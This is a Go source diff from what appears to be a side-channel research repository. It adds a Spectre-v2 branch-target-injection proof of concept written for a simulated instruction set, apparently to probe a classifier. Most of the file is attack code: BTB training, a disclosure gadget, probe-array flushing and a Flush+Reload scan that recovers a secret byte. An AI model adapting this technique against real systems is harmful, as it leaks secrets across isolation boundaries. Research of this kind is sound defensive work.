@@ -1,0 +1,150 @@
+package attacks
+
+import "repro/internal/isa"
+
+// Spectre-v2 extension (branch target injection): the attacker trains an
+// indirect jump's BTB entry toward a disclosure gadget, then switches the
+// architectural target to a benign handler. Until the indirect target
+// resolves, the front end transiently executes the stale BTB target —
+// the gadget — which dereferences a pointer register and touches a
+// value-dependent probe line. During training the pointer aims at a
+// dummy zero word (the gadget architecturally touches probe line 0
+// only); during the attack shot it aims at the secret, which therefore
+// leaks purely transiently. A Flush+Reload scan recovers the byte.
+//
+// Like Meltdown-FR and Evict-Time this PoC is a beyond-Table-II
+// generalizability probe: no v2 model exists in the repository, yet the
+// transient-gadget + reload structure lands it in the transient-FR
+// neighborhood.
+const (
+	// spectreBTBProbeBase keeps the probe lines in monitored sets,
+	// separate from the other Spectre PoCs' regions.
+	spectreBTBProbeBase uint64 = 0x6400_0000 + MonitoredSetOffset*LineSize
+	// spectreBTBSecret is the private secret word the gadget can reach.
+	spectreBTBSecret uint64 = 0x6600_0000
+	// spectreBTBDummy is the zero word used while training.
+	spectreBTBDummy uint64 = 0x6600_1000
+)
+
+// SpectreBTB builds the branch-target-injection PoC. Self-contained.
+func SpectreBTB(p Params) PoC {
+	p = p.withDefaults()
+	b := isa.NewBuilder("S-BTB", AttackerCodeBase)
+	probe := b.DataAt("probe", spectreBTBProbeBase, spectreProbeLines*LineSize, nil, false)
+	secretInit := make([]byte, 8)
+	secretInit[0] = byte(p.Secret % spectreProbeLines)
+	b.DataAt("secret", spectreBTBSecret, 8, secretInit, false)
+	b.DataAt("dummy", spectreBTBDummy, 8, nil, false)
+	hist := b.Bytes("hist", spectreProbeLines*8, false)
+	scratch := b.Bytes("scratch", 128, false)
+
+	b.Entry("main")
+
+	// The victim-style dispatcher: one indirect jump whose BTB entry the
+	// attack poisons. R9 holds the architectural target, R12 the data
+	// pointer the gadget dereferences.
+	b.Label("dispatch").
+		Raw(isa.JMP, isa.R(isa.R9), isa.None())
+
+	// Disclosure gadget (the poisoned target): load *R12, touch the
+	// value-dependent probe line, continue.
+	b.Label("gadget")
+	b.BeginAttack().
+		Mov(isa.R(isa.R3), isa.Mem(isa.R12, 0)).
+		And(isa.R(isa.R3), isa.Imm(spectreProbeLines-1)).
+		Shl(isa.R(isa.R3), isa.Imm(6)).
+		Mov(isa.R(isa.R4), isa.MemIdx(isa.RegNone, isa.R3, 1, int64(probe))).
+		EndAttack().
+		Jmp("after")
+
+	// Benign handler (the architectural target of the attack shot).
+	b.Label("benign_handler").
+		Mov(isa.R(isa.R4), isa.Imm(0)).
+		Jmp("after")
+
+	// after returns to the driver through R13.
+	b.Label("after").
+		Raw(isa.JMP, isa.R(isa.R13), isa.None())
+
+	b.Label("main")
+	emitSetupNoise(b, scratch, 8, "setup", 0)
+
+	b.Mov(isa.R(isa.R11), isa.Imm(int64(p.Rounds)))
+	b.Label("round")
+
+	// Flush the probe array so only transient touches warm lines.
+	b.BeginAttack().
+		Mov(isa.R(isa.R5), isa.Imm(0)).
+		Label("fl").
+		Mov(isa.R(isa.R6), isa.R(isa.R5)).
+		Shl(isa.R(isa.R6), isa.Imm(6)).
+		Add(isa.R(isa.R6), isa.Imm(int64(probe))).
+		Clflush(isa.Mem(isa.R6, 0)).
+		Inc(isa.R(isa.R5)).
+		Cmp(isa.R(isa.R5), isa.Imm(spectreProbeLines)).
+		Jl("fl").
+		EndAttack()
+
+	// Train the BTB: three dispatches whose architectural target IS the
+	// gadget, with the pointer aimed at the dummy zero word.
+	b.Mov(isa.R(isa.R10), isa.Imm(3)).
+		Label("train").
+		Mov(isa.R(isa.R12), isa.Imm(int64(spectreBTBDummy)))
+	// Targets via label immediates: resolved after Build? Builder only
+	// resolves branch labels; load the addresses through the label map
+	// by emitting Jmp-based trampolines instead: set R9/R13 using
+	// LoadLabel pseudo — implemented with a second pass below.
+	b.Raw(isa.MOV, isa.R(isa.R9), isa.Imm(labelRefGadget)).
+		Raw(isa.MOV, isa.R(isa.R13), isa.Imm(labelRefTrainBack)).
+		Jmp("dispatch").
+		Label("train_back").
+		Dec(isa.R(isa.R10)).
+		Jne("train")
+
+	// Attack shot: architectural target = benign handler, pointer =
+	// secret. The stale BTB entry sends the transient front end into the
+	// gadget with R12 already pointing at the secret.
+	b.Mov(isa.R(isa.R12), isa.Imm(int64(spectreBTBSecret))).
+		Raw(isa.MOV, isa.R(isa.R9), isa.Imm(labelRefBenign)).
+		Raw(isa.MOV, isa.R(isa.R13), isa.Imm(labelRefShotBack)).
+		Jmp("dispatch").
+		Label("shot_back")
+
+	emitReloadScan(b, "scan", probe, hist, p.Threshold)
+
+	b.Dec(isa.R(isa.R11)).
+		Jne("round")
+	emitResultScan(b, hist, spectreProbeLines, "post", 2)
+	b.Hlt()
+
+	prog := b.MustBuild()
+	// Resolve the label-address immediates.
+	patchLabelRefs(prog, map[int64]string{
+		labelRefGadget:    "gadget",
+		labelRefBenign:    "benign_handler",
+		labelRefTrainBack: "train_back",
+		labelRefShotBack:  "shot_back",
+	})
+	return PoC{Name: "S-BTB", Family: FamilySFR, Program: prog}
+}
+
+// Sentinel immediates standing for label addresses until patching.
+const (
+	labelRefGadget int64 = -0x7e51_0001 - iota
+	labelRefBenign
+	labelRefTrainBack
+	labelRefShotBack
+)
+
+// patchLabelRefs rewrites sentinel immediates with label addresses.
+func patchLabelRefs(p *isa.Program, refs map[int64]string) {
+	for i := range p.Insns {
+		in := &p.Insns[i]
+		if in.Src.Kind != isa.OpImm {
+			continue
+		}
+		if label, ok := refs[in.Src.Disp]; ok {
+			in.Src = isa.Imm(int64(p.Labels[label]))
+		}
+	}
+}
